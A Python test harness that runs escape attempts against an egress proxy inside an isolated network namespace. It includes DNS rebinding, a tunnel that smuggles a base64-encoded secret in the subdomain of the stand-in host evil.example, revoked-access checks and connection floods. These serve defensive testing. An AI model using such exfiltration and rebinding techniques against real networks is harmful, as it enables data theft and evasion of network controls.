"""The battery of escapes against the egress proxy, in a network namespace of its own. One process is everything:

- pods, which are source addresses;
- an internet: servers on public, private and special addresses, which answer for every name;
- the egress proxy, as the product runs it, except for the feed and DNS, which are dictionaries here.

`run` starts it, and returns what each attempt saw.
"""

import asyncio
import contextlib
import ipaddress
import json
import os
import shlex
import socket
import ssl
import subprocess
import sys
import tempfile
import threading
import time
from collections.abc import Callable
from concurrent.futures import ThreadPoolExecutor
from dataclasses import replace
from pathlib import Path
from typing import NoReturn

from tests.support.egress_proxy import attempts as attempts_of_pods
from tests.support.egress_proxy.attempts import (
    ANY,
    BLOCKED,
    COURSE,
    LAB,
    LISTED,
    LISTED_HOSTS,
    OWN,
    PORT,
    PRIVATE,
    PUBLIC,
    PUBLIC6,
    REBINDING,
    SIX,
    STRANGER,
    TWICE,
    Attempt,
    Pod,
    act,
    addresses,
    attempts,
    connect,
    get,
    open_tunnel,
    plain,
    rebinding,
    receive,
    tunnel,
)
from tests.support.egress_proxy.hellos import hello_for
from tests.support.egress_proxy.internet import CANARIES, start_internet
from verifier.networks import NetworkSet
from verifier.proxy import connections as proxy_connections
from verifier.proxy.connections import Proxy
from verifier.proxy.decide import Policy, TierHosts
from verifier.proxy.hosts import HostList
from verifier.proxy.limits import Limits
from verifier.proxy.metrics import Metrics
from verifier.proxy.process import listen
from verifier.proxy.resolve import Resolver
from verifier.records import AddressChange, AddressVersion, PodAddresses

TOP = Path(__file__).parents[3]

WAIT_SECONDS = 20.0
"""Seconds for things that happen immediately."""

PROXY, PROXY6 = "10.42.255.1", "fd42::1"
CUT = Pod(PROXY, "10.42.0.7")
"""A pod whose tier changes."""

PODS = {
    LISTED: Pod(PROXY, "10.42.0.5"),
    ANY: Pod(PROXY, "10.42.0.6"),
    BLOCKED: Pod(PROXY, "10.42.0.8"),
    STRANGER: Pod(PROXY, "10.42.0.9"),
    TWICE: Pod(PROXY, "10.42.0.10"),
    COURSE: Pod(PROXY, "10.42.0.11"),
    SIX: Pod(PROXY6, "fd42::5"),
}

EXCEPT = [
    "0.0.0.0/8",
    "10.0.0.0/8",
    "172.16.0.0/12",
    "192.168.0.0/16",
    "100.64.0.0/10",
    "127.0.0.0/8",
    "169.254.0.0/16",
    "224.0.0.0/4",
    "240.0.0.0/4",
    "::/127",
    "64:ff9b::/96",
    "64:ff9b:1::/48",
    "2001::/32",
    "2002::/16",
    "fc00::/8",
    "fd00::/9",
    "fd80::/9",
    "fe80::/10",
    "fec0::/10",
    "ff00::/8",
]
"""The same as `except` in values.yaml."""


class Lab:
    """The proxy on the event loop of its own thread, and the state that the reconciler would publish."""

    def __init__(self) -> None:
        closed = NetworkSet(ipaddress.ip_network(cidr) for cidr in EXCEPT)
        policy = Policy(
            {"unverified": TierHosts(HostList(LISTED_HOSTS), closed=closed), "full": TierHosts(HostList(["*"]), closed=closed)},
            frozenset({"hub.example"}),
            "https://hub.example/egress/servers/",
            {"github.com/org/course": HostList(["api.course.example", "private.example"])},
        )
        self.rebound = 0
        self.later = 0.0  # seconds by which answers of DNS appear older
        self.asked: set[str] = set()
        self.loop = asyncio.new_event_loop()
        self.proxy = Proxy(
            policy, Limits(60, 1000, 0, 400), Resolver(self.resolve, self._now), Metrics(), True, identity_wait_seconds=0.3
        )
        self._version = self._known = 0
        self.loop.run_until_complete(self._begin())
        threading.Thread(target=self.loop.run_forever, daemon=True).start()
        self.publish("listed", PODS[LISTED], "unverified")
        self.publish("six", PODS[SIX], "unverified")
        self.publish("blocked", PODS[BLOCKED], "unverified", blocked=True)
        self.publish("any", PODS[ANY], "full")
        self.publish("course", PODS[COURSE], "unverified", repository="https://github.com/org/course")
        self.publish("one", PODS[TWICE], "full")
        self.publish("another", PODS[TWICE], "full")
        while "hub.example" not in self.asked:
            time.sleep(0.01)

    async def _begin(self) -> None:
        self.proxy.identities.load(AddressVersion(), {})
        self._kept = [asyncio.create_task(task) for task in (self.proxy.serve(listen(PORT)), self.proxy.watch(), self._beat())]

    async def _beat(self) -> None:
        """Publish as the reconciler does: the state is valid for half a minute after its last message."""
        while True:
            self.proxy.identities.apply(AddressChange(AddressVersion(self._known)))
            await asyncio.sleep(1)

    def _now(self) -> float:
        return time.monotonic() + self.later

    def resolve(self, name: str) -> list[str]:
        """Resolve as DNS would. One name has another address in every answer."""
        self.asked.add(name)
        if name == "rebind.example":
            self.rebound += 1
            return [PUBLIC[0]] if self.rebound % 2 else [PRIVATE]
        return addresses(name)

    def publish(self, user: str, pod: Pod, tier: str, blocked: bool = False, repository: str = "") -> None:
        """Publish a pod, as the reconciler does, and wait until the proxy knows it."""
        self._version += 1
        pods = (PodAddresses(f"uid-{user}", user, "", (pod.address,), tier, blocked, repository),) if tier else ()
        change = AddressChange(AddressVersion(self._version), f"{user}/", pods)

        async def apply() -> None:
            self._known = change.version.number
            assert self.proxy.identities.apply(change)

        asyncio.run_coroutine_threadsafe(apply(), self.loop).result()


def one_after_the_other() -> list[Attempt]:
    """The attempts that change something, or use something up."""

    def rebound(lab: Lab) -> str:
        def wait() -> None:
            lab.later += 60

        return rebinding(PODS[ANY], wait)

    def unasked(lab: Lab) -> str:
        """Refused by its name, before the address is looked up."""
        seen = tunnel(PODS[LISTED], "c2VjcmV0.evil.example:443", "x")
        return f"{seen}, {'REACHED DNS' if 'c2VjcmV0.evil.example' in lab.asked else 'DNS was not asked'}"

    def grant(lab: Lab) -> str:
        lab.publish("cut", CUT, "unverified")
        before = tunnel(CUT, "evil.example:443", "evil.example")
        lab.publish("cut", CUT, "full")
        first = "REACHED before" if "ServerHello" in before else "first refused"
        return f"{first}, then {tunnel(CUT, 'evil.example:443', 'evil.example')}"

    def endless(pod: Pod) -> tuple[socket.socket, socket.socket]:
        """A download with TLS, and one with plain HTTP."""
        context = ssl._create_unverified_context()
        connection, _ = open_tunnel(pod, "evil.example:443")
        secure = context.wrap_socket(connection, server_hostname="evil.example")
        secure.sendall(b"GET /endless HTTP/1.1\r\nHost: evil.example\r\n\r\n")
        clear = connect(pod)
        clear.sendall(get("http://evil.example/endless").encode())
        assert secure.recv(1) and clear.recv(1)
        return secure, clear

    def seconds_to_end(connection: socket.socket) -> float:
        began = time.monotonic()
        connection.settimeout(WAIT_SECONDS)
        with contextlib.suppress(OSError):
            while time.monotonic() - began < WAIT_SECONDS and connection.recv(1 << 20):
                pass
        return time.monotonic() - began

    def cut(change: Callable[[Lab], None]) -> Callable[[Lab], str]:
        def changed(lab: Lab) -> str:
            lab.publish("cut", CUT, "full")
            ending, living = endless(CUT), endless(PODS[ANY])
            idle, _ = open_tunnel(CUT, "evil.example:443")
            silent, _ = open_tunnel(CUT, "evil.example:443", hello_for("evil.example"))
            time.sleep(0.1)
            change(lab)
            took = [seconds_to_end(one) for one in (*ending, idle, silent)]
            alive = all(one.recv(1) for one in living)
            for one in (*ending, *living, idle, silent):
                one.close()
            lab.publish("cut", CUT, "full")
            ended = "cut" if max(took) < WAIT_SECONDS else "REACHED"
            return f"{'others live' if alive else 'REACHED: others ended'}, {ended} after {took}"

        return changed

    def kept(lab: Lab) -> str:
        """A tunnel to a host of both tiers stays open."""
        lab.publish("cut", CUT, "full")
        context = ssl._create_unverified_context()
        connection, _ = open_tunnel(CUT, "ok.example:443")
        secure = context.wrap_socket(connection, server_hostname="ok.example")
        lab.publish("cut", CUT, "unverified")
        time.sleep(0.1)
        secure.sendall(b"GET / HTTP/1.1\r\nHost: ok.example\r\nConnection: close\r\n\r\n")
        with secure:
            return receive(secure)

    def crowd(lab: Lab) -> str:
        """One pod holds as many connections as allowed; another pod still works."""
        while lab.proxy.open:
            time.sleep(0.05)
        held = [connect(CUT) for _ in range(70)]
        time.sleep(0.3)
        line = plain(CUT, get("http://ok.example/"))
        other = plain(PODS[LISTED], get("http://ok.example/"))
        for one in held:
            one.close()
        return f"{line} and {other}"

    again, change, limit = (
        "an address used again at once",
        "what a change no longer allows goes on",
        "more connections than the limit",
    )
    living = "others live, cut"
    found = [
        Attempt(REBINDING, "a public and a private address in turn", rebound, reaches="both answers"),
        Attempt("data in names that are not listed", "CONNECT", unasked, reaches="DNS was not asked"),
        Attempt(change, "a grant opens", grant, reaches="first refused, then ServerHello"),
        Attempt(change, "revoked", cut(lambda lab: lab.publish("cut", CUT, "unverified")), reaches=living),
        Attempt(change, "blocked", cut(lambda lab: lab.publish("cut", CUT, "unverified", True)), reaches=living),
        Attempt(change, "the pod ends", cut(lambda lab: lab.publish("cut", CUT, "")), reaches=living),
        Attempt(again, "by the next pod", cut(lambda lab: lab.publish("x", CUT, "full")), reaches=living),
        Attempt(again, "and free again", lambda lab: (lab.publish("x", CUT, ""), kept(lab))[1], reaches="REACHED host=ok"),
        Attempt(limit, "by one pod", crowd, reaches="HTTP/1.1 429 "),
        Attempt(limit, "another pod meanwhile", crowd, reaches="and HTTP/1.1 200 OK | REACHED host=ok.example"),
    ]
    return [replace(attempt, where=(LAB,)) for attempt in found]


def made() -> list[Attempt]:
    """All attempts that are made here."""
    return [attempt for attempt in (*attempts(), *one_after_the_other()) if LAB in attempt.where]


def run() -> dict[str, list]:
    """Run the battery. Returns attempt → [whether it ended as it must, what was seen]."""
    return in_namespace(__spec__.name)


def in_namespace(module: str, *arguments: str, resolver: str = "") -> dict:
    """Run a program in a new network namespace with the lab's addresses, and return the JSON that it prints.

    Args:
        module: the program.
        arguments: its arguments.
        resolver: the address of its DNS server; empty: the machine's, which does not exist there.
    """
    inside = ["ip link set lo up"]
    pods = (pod.address for pod in (CUT, *PODS.values()))
    for address in (PROXY, PROXY6, *pods, *PUBLIC, PUBLIC6, OWN, *CANARIES):
        inside.append(f"ip address add {address}/{'128 nodad' if ':' in address else '32'} dev lo")
    with tempfile.NamedTemporaryFile("w") as resolv_conf:
        if resolver:
            resolv_conf.write(f"nameserver {resolver}\n")
            resolv_conf.flush()
            inside.append(f"mount --bind {resolv_conf.name} /etc/resolv.conf")
        inside.append(f"exec {shlex.join([sys.executable, '-m', module, *arguments])}")
        command = ["unshare", "--map-root-user", "--net", "--mount", "sh", "-ec", "\n".join(inside)]
        environment = {**os.environ, "PYTHONPATH": str(TOP)}
        done = subprocess.run(command, capture_output=True, text=True, cwd=TOP, env=environment, check=False)
    assert not done.returncode, done.stderr[-5000:]
    return json.loads(done.stdout)


def end(found: dict) -> NoReturn:
    """In the namespace: print what was seen, and end the program with all of its threads."""
    print(json.dumps(found), flush=True)
    os._exit(0)


def begin(folder: Path) -> Lab:
    """In the namespace: start the internet and the proxy."""
    start_internet(folder, (*PUBLIC, PUBLIC6, OWN, *CANARIES, "127.0.0.1", "::1"))
    return Lab()


def main() -> None:
    """In the namespace: make all attempts, and print the results."""
    # All of this is on one machine, which may be slow. Late answers must not count as missing.
    attempts_of_pods.answer_seconds = WAIT_SECONDS
    proxy_connections.HELLO_SECONDS = 3.0
    proxy_connections.LINGER_SECONDS = 0.2
    with tempfile.TemporaryDirectory() as folder:
        lab = begin(Path(folder))
    side_by_side = [attempt for attempt in attempts() if LAB in attempt.where]
    with ThreadPoolExecutor(8) as pool:
        seen = pool.map(lambda attempt: act(attempt, PODS[attempt.pod]), side_by_side)
        found = dict(zip((attempt.id for attempt in side_by_side), seen, strict=True))
    # A tunnel without a ClientHello must not end by itself before the test looks at it.
    proxy_connections.HELLO_SECONDS = 4 * WAIT_SECONDS
    for attempt in one_after_the_other():
        found[attempt.id] = act(attempt, lab)
    end(found)


if __name__ == "__main__":
    main()
